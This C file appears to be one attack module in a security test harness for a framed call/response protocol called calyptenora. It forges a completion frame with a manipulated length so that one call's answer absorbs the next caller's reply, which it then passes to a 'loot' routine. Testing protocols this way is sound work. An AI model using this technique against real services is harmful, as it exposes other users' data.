/* Begins the answer of one call, so that the answer of the next becomes part of it. */
#define ATTACK_ON_CALLS
#include "../attack.h"
#include "../frames.h"

static void on_call(uint64_t call, calyptenora_bytes payload) {
    static uint64_t first;
    struct frame frame;
    if (first == 0) {
        first = call;
        return;
    }
    begin_frame(&frame, frame_complete);
    put(&frame, first, 8);
    put(&frame, CALYPTENORA_OK, 4);
    put(&frame, 130, 8); /* so many bytes of the other answer */
    put(&frame, 130, 4);
    frame.bytes[0] = (unsigned char)(frame.size - 8 + 130);
    send_frame(&frame);
    loot(payload.data, payload.size);
    complete(call);
}
